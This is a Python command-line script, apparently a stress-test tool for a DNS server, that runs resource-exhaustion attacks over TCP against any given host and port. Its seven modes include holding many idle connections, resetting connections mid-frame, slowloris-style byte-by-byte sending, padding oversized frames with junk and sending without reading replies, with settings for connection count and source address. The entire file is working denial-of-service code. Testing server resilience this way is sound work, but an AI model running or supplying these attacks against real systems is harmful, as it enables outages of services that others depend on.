"""Attacks over TCP. The first line of output is `ready`, when all connections have been opened and asked on once; the
program then goes on until SIGTERM or until its input ends, except for those attacks that are over by then."""
import argparse
import selectors
import socket
import struct
import time

import wire

MAX_MESSAGE = 65535
OPEN_SECONDS = 20  # in which all connections are opened
AT_ONCE = struct.pack("ii", 1, 0)  # SO_LINGER: close with RST


class Attack:
    """What all kinds have: many connections from one address."""

    def __init__(self, arguments, stop):
        self.arguments = arguments
        self.stop = stop
        self.connections = []

    def connect(self):
        connection = socket.socket()
        connection.settimeout(2)
        if self.arguments.source:
            connection.bind((self.arguments.source, 0))
        connection.connect((self.arguments.host, self.arguments.port))
        connection.setblocking(False)
        return connection

    def name(self):
        return self.arguments.name.replace("%", wire.random_label())

    def open_all(self, octets):
        """Opens all connections and sends on each what the function gives, as far as the kernel takes it. A server that
        is slow to accept gets as many as the time allows."""
        end = time.monotonic() + OPEN_SECONDS
        for _ in range(self.arguments.connections):
            if time.monotonic() > end or self.stop.is_set():
                break
            try:
                connection = self.connect()
                connection.send(octets())
                self.connections.append(connection)
            except OSError:
                pass  # the server has its own ways to keep connections away

    def questions(self):
        type_ = self.arguments.type
        return b"".join(wire.frame(wire.make_query(self.name(), type_)) for _ in range(self.arguments.questions))

    def run(self):
        raise NotImplementedError

    def hold(self):
        """Reads nothing, sends nothing."""
        wire.say("ready")
        self.stop.wait()


class Hold(Attack):
    """Each connection asks its questions and waits, reading nothing."""

    def run(self):
        self.open_all(self.questions)
        self.hold()


class Close(Attack):
    """Each connection asks its questions and is closed at once."""

    def run(self):
        end = time.monotonic() + OPEN_SECONDS
        for number in range(self.arguments.connections):
            if time.monotonic() > end or self.stop.is_set():
                break
            try:
                self.ask_once(number)
            except OSError:
                pass
        wire.say("ready")

    def ask_once(self, _number):
        with self.connect() as connection:
            connection.send(self.questions())


class Reset(Close):
    """Each connection asks its questions and is reset, every second one within a frame."""

    def ask_once(self, number):
        with self.connect() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, AT_ONCE)
            octets = self.questions()
            connection.send(octets[:-5] if number % 2 else octets)


class KeepAlive(Attack):
    """Each connection asks a question again and again, and one that was ended is opened anew."""

    def run(self):
        self.open_all(self.questions)
        wire.say("ready")
        while not self.stop.wait(self.arguments.interval):
            living = []
            for connection in self.connections:
                try:
                    if connection.recv(MAX_MESSAGE):
                        connection.send(self.questions())
                        living.append(connection)
                        continue
                except BlockingIOError:
                    living.append(connection)
                    continue
                except OSError:
                    pass
                connection.close()
            self.connections = living
            missing = self.arguments.connections - len(living)
            for _ in range(missing):
                if not self.stop.is_set():
                    self.reopen()

    def reopen(self):
        try:
            connection = self.connect()
            connection.send(self.questions())
            self.connections.append(connection)
        except OSError:
            pass


class Slow(Attack):
    """Each connection sends a question octet by octet."""

    def run(self):
        self.open_all(lambda: b"\0")
        wire.say("ready")
        octets = wire.frame(wire.make_query(self.name()))
        for octet in octets[1:]:
            if self.stop.wait(self.arguments.interval):
                return
            for connection in self.connections:
                try:
                    connection.send(bytes([octet]))
                except OSError:
                    pass


class Frames(Attack):
    """Each connection sends its questions in frames of the largest size, all but the question being junk."""

    def run(self):
        message = wire.make_query(self.name())
        octets = wire.frame(message + bytes(MAX_MESSAGE - len(message))) * self.arguments.questions
        self.open_all(lambda: b"")
        selector = selectors.DefaultSelector()
        for connection in self.connections:
            selector.register(connection, selectors.EVENT_WRITE, [0])
        quiet = time.monotonic()
        # Until everything has been sent, or the server has read nothing for two seconds.
        while selector.get_map() and time.monotonic() < quiet + 2 and not self.stop.is_set():
            for key, _ in selector.select(0.1):
                sent = key.data
                try:
                    sent[0] += key.fileobj.send(memoryview(octets)[sent[0] : sent[0] + (1 << 18)])
                    quiet = time.monotonic()
                except BlockingIOError:
                    continue
                except OSError:
                    sent[0] = len(octets)
                if sent[0] == len(octets):
                    selector.unregister(key.fileobj)
        self.hold()


class Unread(Attack):
    """Each connection asks for as long as the server takes questions, and reads no reply."""

    def run(self):
        octets = self.questions()
        self.open_all(lambda: b"")
        sent = dict.fromkeys(self.connections, 0)
        wire.say("ready")
        while not self.stop.wait(0.05):
            for connection, begin in sent.items():
                try:
                    sent[connection] = (begin + connection.send(octets[begin:])) % len(octets)
                except OSError:
                    pass


KINDS = {"hold": Hold, "close": Close, "reset": Reset, "keep-alive": KeepAlive, "slow": Slow, "frames": Frames,
         "unread": Unread}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("name", help="what is asked; a % becomes a random label")
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--questions", type=int, default=1, help="on each connection")
    parser.add_argument("--source", help="address to connect from")
    parser.add_argument("--interval", type=float, default=0.8, help="seconds, for keep-alive and slow")
    parser.add_argument("--type", type=int, default=wire.A)
    wire.allow_many_descriptors()
    stop = wire.stop_on_request()
    arguments = parser.parse_args()
    KINDS[arguments.kind](arguments, stop).run()


if __name__ == "__main__":
    main()
